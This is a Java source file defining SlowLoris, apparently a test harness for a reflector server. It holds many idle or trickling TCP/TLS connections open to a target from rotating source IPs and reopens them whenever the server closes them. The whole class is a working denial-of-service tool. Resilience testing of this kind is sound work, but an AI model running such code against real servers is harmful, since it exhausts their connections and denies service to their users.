package io.packetparamedic.reflector.server;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A pre-authentication slow-loris attacker on one thread: keeps {@code sockets} TCP connections
 * from {@code sources} (in turn) open to the target, sending no TLS bytes at all, except the first
 * {@code tricklers}, which send a TLS record header and then one byte every 500 ms. Whenever the
 * server closes one, it is opened again (at most {@code reconnectsPerSecond} in all), so the attack
 * is sustained for as long as it runs, as in the review that found the problem.
 */
final class SlowLoris implements AutoCloseable {

    private static final byte[] TRICKLE = {0x16, 0x03, 0x01, 0x40, 0x00};

    private final InetSocketAddress target;
    private final List<InetSocketAddress> sources;
    private int nextSource;
    private final int sockets;
    private final int tricklers;
    private final int reconnectsPerSecond;
    private final Selector selector;
    private final Thread thread;
    private final CountDownLatch allConnected = new CountDownLatch(1);
    private final AtomicInteger connected = new AtomicInteger();
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong closedByServer = new AtomicLong();
    private final List<SelectionKey> tricklingKeys = new ArrayList<>();
    private int pendingConnects;
    private volatile boolean running = true;

    private SlowLoris(
            InetSocketAddress target,
            List<InetSocketAddress> sources,
            int sockets,
            int tricklers,
            int reconnectsPerSecond)
            throws IOException {
        this.target = target;
        this.sources = sources;
        this.sockets = sockets;
        this.tricklers = tricklers;
        this.reconnectsPerSecond = reconnectsPerSecond;
        this.selector = Selector.open();
        this.thread = new Thread(this::run, "slowloris");
        this.thread.setDaemon(true);
    }

    static SlowLoris start(
            InetSocketAddress target, List<String> sourceIps, int sockets, int tricklers, int reconnectsPerSecond)
            throws IOException {
        List<InetSocketAddress> sources = new ArrayList<>();
        for (String ip : sourceIps) sources.add(new InetSocketAddress(ip, 0));
        SlowLoris s = new SlowLoris(target, sources, sockets, tricklers, reconnectsPerSecond);
        s.thread.start();
        return s;
    }

    /** Waits until every socket has been opened once and has connected (or been refused and reopened). */
    boolean awaitRampUp(long timeout, TimeUnit unit) throws InterruptedException {
        return allConnected.await(timeout, unit);
    }

    /** Connections established now. */
    int connected() {
        return connected.get();
    }

    /** Connection attempts in all, reopenings included. */
    long opened() {
        return opened.get();
    }

    /** Connections the server closed (or reset). */
    long closedByServer() {
        return closedByServer.get();
    }

    /** One socket's state: whether it trickles, and how far into its bytes it is. */
    private static final class Conn {
        final boolean trickle;
        int sent;
        long nextTrickleNanos;

        Conn(boolean trickle) {
            this.trickle = trickle;
        }
    }

    private void run() {
        ArrayDeque<Boolean> toOpen = new ArrayDeque<>();
        for (int i = 0; i < sockets; i++) toOpen.add(i < tricklers);
        long budgetStart = System.nanoTime();
        long reconnectsInWindow = 0;
        int initial = sockets;
        ByteBuffer sink = ByteBuffer.allocate(4096);
        try {
            while (running) {
                // Open what is due: everything at first, then reopenings at a bounded rate.
                long now = System.nanoTime();
                if (now - budgetStart > TimeUnit.SECONDS.toNanos(1)) {
                    budgetStart = now;
                    reconnectsInWindow = 0;
                }
                while (!toOpen.isEmpty() && (initial > 0 || reconnectsInWindow < reconnectsPerSecond)) {
                    boolean trickle = toOpen.poll();
                    if (initial > 0) initial--;
                    else reconnectsInWindow++;
                    open(trickle);
                }
                selector.select(50);
                for (SelectionKey key : selector.selectedKeys()) {
                    SocketChannel ch = (SocketChannel) key.channel();
                    Conn conn = (Conn) key.attachment();
                    try {
                        if (key.isConnectable()) {
                            pendingConnects--;
                            ch.finishConnect();
                            connected.incrementAndGet();
                            key.interestOps(SelectionKey.OP_READ);
                            if (conn.trickle) tricklingKeys.add(key);
                        } else if (key.isReadable()) {
                            sink.clear();
                            if (ch.read(sink) < 0) throw new IOException("closed by server");
                        }
                    } catch (IOException e) {
                        if (key.interestOps() == SelectionKey.OP_READ) connected.decrementAndGet();
                        closedByServer.incrementAndGet();
                        key.cancel();
                        tricklingKeys.remove(key);
                        ch.close();
                        toOpen.add(conn.trickle);
                    }
                }
                selector.selectedKeys().clear();
                if (initial == 0 && pendingConnects == 0) allConnected.countDown();
                trickle();
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        } finally {
            for (SelectionKey key : selector.keys()) {
                try {
                    key.channel().close();
                } catch (IOException ignored) {
                    // closing anyway
                }
            }
            try {
                selector.close();
            } catch (IOException ignored) {
                // closing anyway
            }
        }
    }

    private void open(boolean trickle) throws IOException {
        SocketChannel ch = SocketChannel.open();
        ch.configureBlocking(false);
        ch.bind(sources.get(nextSource++ % sources.size()));
        opened.incrementAndGet();
        Conn conn = new Conn(trickle);
        if (ch.connect(target)) {
            connected.incrementAndGet();
            SelectionKey key = ch.register(selector, SelectionKey.OP_READ, conn);
            if (trickle) tricklingKeys.add(key);
        } else {
            pendingConnects++;
            ch.register(selector, SelectionKey.OP_CONNECT, conn);
        }
    }

    private void trickle() {
        long now = System.nanoTime();
        for (SelectionKey key : tricklingKeys) {
            Conn conn = (Conn) key.attachment();
            if (now < conn.nextTrickleNanos) continue;
            conn.nextTrickleNanos = now + TimeUnit.MILLISECONDS.toNanos(500);
            byte b = conn.sent < TRICKLE.length ? TRICKLE[conn.sent] : 0x01;
            try {
                ((SocketChannel) key.channel()).write(ByteBuffer.wrap(new byte[] {b}));
                conn.sent++;
            } catch (IOException e) {
                // The read side notices the close and reopens it.
            }
        }
    }

    @Override
    public void close() throws InterruptedException {
        running = false;
        selector.wakeup();
        thread.join(TimeUnit.SECONDS.toMillis(10));
    }
}
